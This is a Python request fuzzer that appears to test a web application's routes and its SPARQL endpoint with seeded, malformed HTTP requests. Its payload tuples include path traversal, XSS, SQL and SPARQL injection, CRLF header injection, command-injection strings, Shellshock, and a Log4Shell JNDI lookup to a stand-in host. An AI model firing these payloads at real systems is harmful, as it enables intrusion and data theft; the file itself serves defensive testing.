"""Requests by chance, with a seed: over all routes of an application and its OpenAPI, as no browser would send them."""

from __future__ import annotations

import re
from dataclasses import dataclass
from random import Random
from urllib.parse import quote, unquote, urlencode

LANGS = ("en", "sv", "nb", "is", "et", "lv", "lt", "da", "fi")
METHODS = ("GET",) * 60 + ("HEAD",) * 16 + ("POST",) * 8 + ("OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT")
METHODS += ("PROPFIND", "get", "SEARCH", "X", "A" * 300, "M-SEARCH", "VERSION-CONTROL")

TEXTS = (
    "", " ", "norway", "Žemė", "日本語", "e\u0301", "\u202egnp.exe", "\u2066x", "\ufdfa" * 30, "\U0001f600", "\ufffe", "\x00", "a\x00b",
    "\r\nSet-Cookie: a=1", "a\nb", "\x1b[31m", "\x7f", "\u2028", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "{{7*7}}", "{% raw %}", "${7*7}", "%s%n%d", "%(name)s", "{0.__class__}", "../../etc/passwd", "..\\..\\win.ini", "/etc/passwd",
    "file:///etc/passwd", "//evil.example/", "https://evil.example/", "javascript:alert(1)", "\\\\evil.example", "' OR 1=1 --",
    '" } ; DROP ALL #', "<https://example.org/x>", "?x", "_:b0", "*", "%", "%zz", "%25", "a" * 300, "a/" * 60, "-1", "0", "1e9", "NaN",
    "99999999999999999999", "[]", "[", "a[b]=c", "null", "true", "yes", "2026-02-30", "0000-00-00", "xx", "en-GB", "en,sv",
    "country:norway", "norway,sweden,norway", ",,,", "as-of", "newest", ".", "..", "~", "`id`", "$(id)", ";ls", "|", "&", "=", "#", "?",
)  # fmt: skip
ESCAPES = (
    "%00", "%2e%2e/", "%2e%2e%2f", "..%2f", "%c0%af", "%c0%ae%c0%ae/", "%252e%252e%252f", "%25252e", "%0d%0aX-Evil:1", "%0a", "%09", "%20",
    "%ED%A0%80", "%ff", "%e2%80%ae", "%F0%9F%98%80", "%5c", "%5c..%5c", "%3f", "%23", "%3b", ";a=b", "//", "/./", "/../", "%2f%2fevil.example",
    ".ttl", ".csv", ".html", ".gz", "%2ettl", "?", "&amp;", "'", '%22', "%3Cscript%3E", "%E5%85%A8", "%u0041", "%", "%zz", "%1",
)  # fmt: skip
ACCEPTS = (
    b"*/*", b"text/html", b"text/turtle", b"application/ld+json", b"application/json", b"text/csv", b"application/rdf+xml", b"text/*",
    b"a/b;q=zz,,,;; ;", b"*/*;q=0", b"text/html;q=0,text/turtle;q=nan", b"application/rdf+xml;q=0.9,*/*;q=0.1", b"text/html;q=1e5",
    b"\xff\xfe", b",", b"", b"text/html" + b";a=b" * 500, b"image/avif,image/webp,*/*;q=0.8", b"x" * 2000, b'text/html;x="a,b";q=0.1, */*',
    b"application/sparql-results+xml", b"application/xhtml+xml", b"text/html\r\nX-Evil: 1",
)  # fmt: skip
TONGUES = (
    b"sv",
    b"lv,en;q=0.5",
    b"*",
    b"de",
    b"en-GB,en;q=0.9",
    b"x-klingon",
    b"",
    b"\xc3\xa5",
    b"sv;q=0",
    b"nb;q=inf",
    b"../../etc",
    b"a" * 5000,
)
HOSTS = (
    b"evil.example", b"", b"x/../y", b"a b", b"[::1]", b"[::g]", b"localhost:99999", b"user@localhost", b"localhost\r\nX-Evil: 1", b"\xff",
    b"127.0.0.1:80:80", b"localhost/en?", b"localhost#", b"." , b"a" * 3000, b"\xe2\x84\x80.example",
)  # fmt: skip
OTHERS = (
    (b"range", (b"bytes=0-0", b"bytes=0-0,1-1," * 300, b"bytes=-1", b"bytes=5-2", b"bytes=99999999999-", b"lines=1-2", b"bytes=a-b", b"bytes=")),
    (b"if-none-match", (b"*", b'"x"', b'W/"x', b"," * 500, b"\xff")),
    (b"if-modified-since", (b"Thu, 01 Jan 1970 00:00:00 GMT", b"tomorrow", b"99999999999999")),
    (b"if-range", (b'"x"', b"Thu, 01 Jan 1970 00:00:00 GMT", b"\xff")),
    (b"x-forwarded-host", (b"evil.example",)),
    (b"x-forwarded-proto", (b"https", b"javascript")),
    (b"x-forwarded-for", (b"127.0.0.1", b"unknown", b"::1, 10.0.0.1", b"\r\nX: 1", b"a" * 1000)),
    (b"forwarded", (b"for=_x;host=evil.example;proto=http", b"host=\"\r\n\"")),
    (b"x-original-url", (b"/metrics",)),
    (b"x-http-method-override", (b"DELETE",)),
    (b"origin", (b"https://evil.example", b"null")),
    (b"referer", (b"https://evil.example/\x1b[2J", b"a" * 8000)),
    (b"user-agent", (b"() { :;}; echo", b"\x1b[31m", b"${jndi:ldap://evil.example/a}")),
    (b"cookie", (b"a=" + b"b" * 4000, b"\xff=\xff")),
    (b"authorization", (b"Basic ZXZpbDpwYXNz", b"Bearer a.b.c")),
    (b"accept-encoding", (b"gzip", b"gzip;q=0", b"identity;q=0, *;q=0", b"br", b"gzip, deflate, br, zstd", b"*")),
    (b"connection", (b"close", b"upgrade", b"keep-alive, Host")),
    (b"upgrade", (b"websocket", b"h2c")),
    (b"expect", (b"100-continue", b"200-ok")),
    (b"content-type", (b"text/plain", b"application/json", b"multipart/form-data; boundary=", b"\xff", b"application/sparql-update")),
    (b"content-length", (b"0", b"-1", b"99999999999", b"1, 2", b"0x10", b"\xc2\xb2")),
    (b"content-encoding", (b"gzip", b"deflate", b"br", b"x")),
    (b"transfer-encoding", (b"chunked", b"identity", b"gzip, chunked", b"\x0bchunked")),
    (b"x-request-id", (b"abcdefgh12", b"a\r\nSet-Cookie: a=1", b"\xff" * 20, b"a" * 500)),
    (b"accept-charset", (b"utf-7", b"*;q=0")),
    (b"access-control-request-method", (b"DELETE",)),
    (b"te", (b"trailers", b"\xff")),
)  # fmt: skip
QUERIES = (
    b"ASK {}", b"SELECT * { ?s ?p ?o } LIMIT 1", b"SELECT ?s { ?s a <x:y> }", b"SELEKT", b"", b"DROP ALL", b"SELECT * { SERVICE <http://127.0.0.1/> { ?s ?p ?o } }",
    b"SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }", b"\xff\xfe", b"ASK { FILTER(1=1) }\x00", b"CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o } LIMIT 2",
    b"{" * 200, b"SELECT (COUNT(*) AS ?n) { ?s ?p ?o }", b"DESCRIBE <https://w3id.org/peeratlas/edition>", b"# \r\n", b"ASK { ?s ?p '\\uD800' }",
)  # fmt: skip
COSTLY = re.compile(
    r"/(?:compare\.|embed/|oembed)|\.(?:svg|png|xlsx)|^/sparql$|/openapi|/shapes|/ontology|\.(?:rdf|jsonld)$"
)
"""What takes long to make: asked less often, by `LESS`."""
LESS = 0.06


@dataclass(frozen=True, slots=True)
class Request:
    """`target` is what stands on the first line of the request, `body` what follows the headers."""

    method: str
    target: bytes
    headers: tuple[tuple[bytes, bytes], ...]
    body: bytes
    client: str

    @property
    def scope(self) -> dict:
        """What a web server makes of it."""
        path, _, query = self.target.partition(b"?")
        return {
            "type": "http",
            "asgi": {"version": "3.0", "spec_version": "2.3"},
            "http_version": "1.1",
            "method": self.method,
            "scheme": "http",
            "path": unquote(path.decode("latin-1")),
            "raw_path": path,
            "root_path": "",
            "query_string": query,
            "headers": list(self.headers),
            "client": (self.client, 4711),
            "server": ("127.0.0.1", 80),
            "state": {},
        }


class Generator:
    """`known` are values of parameters that exist, by name: those of paths and of queries."""

    def __init__(self, paths: list[str], known: dict[str, list[str]], seed: int) -> None:
        self.paths = paths
        self._known = known
        self._cheap = [path for path in paths if not COSTLY.search(path)]
        self._costly = [path for path in paths if COSTLY.search(path)]
        assert self._cheap
        assert self._costly
        self._random = Random(seed)

    def draw(self) -> Request:
        chance = self._random
        template = self._one(self._costly) if chance.random() < LESS else self._one(self._cheap)
        target = self._path(template) + self._query(template)
        method = self._one(METHODS)
        if template == "/sparql" and chance.random() < 0.4:
            method = "POST"
        body = self._body() if method in ("POST", "PUT", "PATCH") else b""
        client = f"10.{chance.randrange(256)}.{chance.randrange(256)}.{chance.randrange(256)}"
        return Request(method, target, self._headers(body), body, client)

    def _one(self, options):
        return self._random.choice(options)

    def _path(self, template: str) -> bytes:
        chance = self._random
        wild = chance.random()

        def value(match: re.Match) -> str:
            name = match[1].partition(":")[0]
            options = self._known.get(name, ())
            if options and (wild > 0.2 or chance.random() < 0.5):
                return quote(self._one(options), safe="/")
            return quote(self._one(TEXTS), safe="" if chance.random() < 0.7 else "/%")

        path = re.sub(r"\{([^}]+)\}", value, template)
        if wild < 0.12:
            place = chance.randrange(len(path) + 1)
            path = path[:place] + self._one(ESCAPES) + path[place:]
        elif wild < 0.13:
            path += "/" if chance.random() < 0.6 else "a" * chance.randrange(1, 20_000)
        return (path if path.startswith("/") else f"/{path}").encode("ascii", "replace")

    def _query(self, template: str) -> bytes:
        chance = self._random
        if chance.random() > (0.9 if template == "/sparql" else 0.12):
            return b""
        if template == "/sparql" and chance.random() < 0.7:
            return b"?query=" + quote(self._one(QUERIES)).encode()
        if chance.random() < 0.05:
            return b"?" + self._one(
                (b"\xff\xfe", b"%", b"&&&", b"=", b"a" * 9000, b"[]", b"%00=%0d%0a", b"?" * 50, b"lang=sv&lang=lv")
            )
        names = [*(name for name in self._known if name.islower()), "lang", "zzz", "__proto__", "a[]"]
        pairs = []
        for name in (self._one(names) for _ in range(chance.randrange(1, 4))):
            options = self._known.get(name, ())
            pairs.append((name, self._one(options) if options and chance.random() < 0.5 else self._one(TEXTS)))
        return b"?" + urlencode(pairs).encode()

    def _headers(self, body: bytes) -> tuple[tuple[bytes, bytes], ...]:
        chance = self._random
        found = [(b"host", self._one(HOSTS) if chance.random() < 0.06 else b"localhost")]
        if chance.random() < 0.7:
            found.append((b"accept", self._one(ACCEPTS)))
        if chance.random() < 0.4:
            found.append((b"accept-language", self._one(TONGUES)))
        for name, values in chance.sample(OTHERS, chance.choice((0, 0, 1, 1, 2, 4))):
            found.append((name, self._one(values)))
        if body:
            kinds = (
                b"application/sparql-query",
                b"application/x-www-form-urlencoded",
                b"application/sparql-query; charset=utf-8",
            )
            found.append((b"content-type", self._one(kinds)))
            found.append((b"content-length", str(len(body)).encode()))
        return tuple(found)

    def _body(self) -> bytes:
        chance = self._random.random()
        query = self._one(QUERIES)
        if chance < 0.4:
            return b"query=" + quote(query).encode()
        if chance < 0.8:
            return query
        return self._one(
            (
                b"",
                b"x" * 300_000,
                b"&" * 5000,
                b"query=" * 20,
                b'{"query": "ASK {}"}',
                b"\x1f\x8b\x08" + b"\0" * 50,
                b"update=DROP+ALL",
            )
        )
